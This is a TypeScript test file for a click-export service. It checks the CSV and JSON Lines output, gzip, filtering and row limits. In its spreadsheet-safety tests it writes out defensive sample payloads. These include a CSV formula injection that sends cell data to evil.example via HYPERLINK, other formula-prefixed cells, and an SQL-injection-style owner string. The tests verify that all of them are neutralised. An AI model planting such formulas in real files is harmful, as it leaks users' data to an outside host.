// What stands in the files.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import { EXPORT_COLUMNS, type ExportJob, type ExportOrder } from "@linkfence/contracts";
import type { TestDatabase } from "@linkfence/testkit";
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { openClickDatabase } from "../test-support/export-clicks.ts";
import { type ExportWorld, openExportWorld } from "../test-support/open-exports.ts";
import { newClickId, SAMPLE_AT } from "../test-support/sample-clicks.ts";

let database: TestDatabase;
let world: ExportWorld;

beforeAll(async () => {
  database = await openClickDatabase();
  world = await openExportWorld(database);
  world.start();
});
beforeEach(async () => {
  await database.sql`TRUNCATE click, export_job`;
});
afterAll(async () => {
  await world.close();
  await database.drop();
});

type Cells = Partial<
  Record<"id" | "code" | "owner" | "referrer" | "browser" | "system" | "device" | "country", string>
>;

/** Puts a click into the table as it is, whatever the service would have made of it. */
async function insert({ id = newClickId(), code = "sample", owner = "ann", ...cells }: Cells, flags = [false, false]) {
  const { referrer = "", browser = "", system = "", device = "", country = "" } = cells;
  await database.sql`
    INSERT INTO click (click_id, link_version, clicked_at, code, owner, referrer_host, browser, os, device, country, bot,
                       prefetch)
    VALUES (${id}, 3, ${new Date(Number.parseInt(id.slice(0, 8) + id.slice(9, 13), 16))}, ${code}, ${owner}, ${referrer},
            ${browser}, ${system}, ${device}, ${country}, ${flags[0] === true}, ${flags[1] === true})`;
  return id;
}

async function exported(order: Partial<ExportOrder> = {}): Promise<{ job: ExportJob; text: string }> {
  const job = await world.ended(await world.order(order));
  return { job, text: job.file ? await world.read(job) : "" };
}

const lines = (text: string) =>
  text
    .split("\n")
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Record<string, unknown>);
const HEADER = EXPORT_COLUMNS.join(",");

describe("a file of CSV", () => {
  test("has one header, cells in quotes, numbers and times as they are, CRLF, no byte-order mark, and UTC", async () => {
    const id = await insert({ referrer: "news.example", browser: "Chrome", country: "DE" }, [true, false]);
    const { job, text } = await exported();
    const at = new Date(SAMPLE_AT).toISOString().replace("Z", "000Z");
    expect(text).toBe(`${HEADER}\r\n${id},${at},"sample",3,"news.example","Chrome",,,"DE",true,false\r\n`);
    expect(job).toMatchObject({ state: "SUCCEEDED", attempts: 1, rows: 1, error: null });
    expect(job.bytes).toBe(Buffer.byteLength(text));
    expect(job.file?.bytes).toBe(job.bytes);
  });

  test("of no clicks has the header alone", async () => {
    const { job, text } = await exported();
    expect(text).toBe(`${HEADER}\r\n`);
    expect(job.rows).toBe(0);
  });

  test("runs nothing in a spreadsheet, and keeps everything in JSON Lines", async () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const [earlier, later] = [newClickId(SAMPLE_AT), newClickId(SAMPLE_AT + 1)];
    await insert({ id: earlier, referrer: evil, browser: "@SUM(1)", system: "+1+1", device: "\t=1", country: "-1" });
    await insert({ id: later, referrer: 'x","=1+1', browser: "\r\n=1", system: " =1", device: "a;=1", code: "-ab" });
    const { text } = await exported();
    const [first, second] = parse(text, { columns: true, record_delimiter: "\r\n" }) as Record<string, string>[];
    expect(first).toMatchObject({ referrer: `'${evil}`, browser: "'@SUM(1)", system: "'+1+1", device: "'\t'=1" });
    expect(second).toMatchObject({ browser: "'\r\n'=1", system: "' =1", device: "a;'=1", code: "'-ab" });
    expect(second?.referrer).toBe('x","\'=1+1');
    const [one, two] = lines((await exported({ format: "jsonl" })).text);
    expect(one).toMatchObject({ referrer: evil, browser: "@SUM(1)", system: "+1+1", device: "\t=1", country: "-1" });
    expect(two).toMatchObject({ referrer: 'x","=1+1', browser: "\r\n=1", device: "a;=1", code: "-ab", country: null });
  });

  test("of any texts has as many cells and rows as there are, none of which begins as a formula; JSON Lines has the texts", async () => {
    const odd = fc.constantFrom(
      ..."=+-@\t\r\n,;|\"' \\aé＝\u0001\u2028\u00a0\u200b\ufeff𝒳{}",
      "=1",
      "\r\n",
      '","',
      "\\.",
    );
    const cell = fc.array(odd, { maxLength: 12 }).map((parts) => parts.join("").slice(0, 60));
    const click = fc.record({ referrer: cell, browser: cell, system: cell, device: cell });
    await fc.assert(
      fc.asyncProperty(fc.array(click, { minLength: 1, maxLength: 8 }), async (clicks) => {
        await database.sql`TRUNCATE click, export_job`;
        for (const each of clicks) await insert(each);
        const csv = await exported();
        const rows = parse(csv.text, { record_delimiter: "\r\n" }) as string[][];
        expect(rows).toHaveLength(clicks.length + 1);
        for (const row of rows) {
          expect(row).toHaveLength(EXPORT_COLUMNS.length);
          for (const text of row) expect(text).not.toMatch(/^[\t\r\n]|(^|[;,|\t\r\n"])[\s\p{C}]*[=+@＝＋－＠-]/u);
        }
        const jsonl = lines((await exported({ format: "jsonl" })).text);
        const known = (text: string) => (text === "" ? null : text);
        const wanted = clicks.map((each) => JSON.stringify(Object.values(each).map(known))).sort();
        const got = jsonl.map(({ referrer, browser, system, device }) => [referrer, browser, system, device]);
        expect(got.map((each) => JSON.stringify(each)).sort()).toEqual(wanted);
      }),
      { numRuns: 15 },
    );
  }, 60_000);
});

describe("a file", () => {
  test("may be gzipped, and is the same then", async () => {
    for (let count = 0; count < 50; count += 1) await insert({ referrer: "news.example" });
    const plain = await exported();
    const zipped = await exported({ gzip: true });
    expect(zipped.text).toBe(plain.text);
    expect(zipped.job.bytes).toBeLessThan(plain.job.bytes / 2);
    expect(zipped.job.rows).toBe(50);
  });

  test("has the clicks of a period alone, to the millisecond, of the owner or the codes that were ordered", async () => {
    const at = (ms: number) => newClickId(SAMPLE_AT + ms);
    const [one, two, three] = [await insert({ id: at(0) }), await insert({ id: at(1) }), await insert({ id: at(2) })];
    const foreign = await insert({ id: at(1), owner: "bob", code: "other" });
    const ids = async (order: Partial<ExportOrder>) =>
      lines((await exported({ format: "jsonl", ...order })).text).map(({ id }) => id);
    expect(await ids({})).toEqual([one, two, three]);
    expect(await ids({ from: SAMPLE_AT + 1 })).toEqual([two, three]);
    expect(await ids({ from: SAMPLE_AT + 1, to: SAMPLE_AT + 2 })).toEqual([two]);
    expect(await ids({ codes: ["other"] })).toEqual([foreign]);
    expect(await ids({ owner: "o'b; DROP TABLE click\\" })).toEqual([]);
  });

  test("with more clicks than a file may have is none, and is not tried again", async () => {
    await world.pause();
    const small = await openExportWorld(database);
    try {
      small.start({ writer: { rowsMax: 2 } });
      for (let count = 0; count < 2; count += 1) await insert({});
      const enough = await small.order();
      expect(await small.ended(enough)).toMatchObject({ state: "SUCCEEDED", rows: 2 });
      await insert({});
      const job = await small.ended(await small.order());
      expect(job).toMatchObject({ state: "FAILED", attempts: 1, error: { code: "too-many-rows" }, file: null });
      expect(await small.names()).toHaveLength(1);
    } finally {
      await small.close();
      world.start();
    }
  });
});
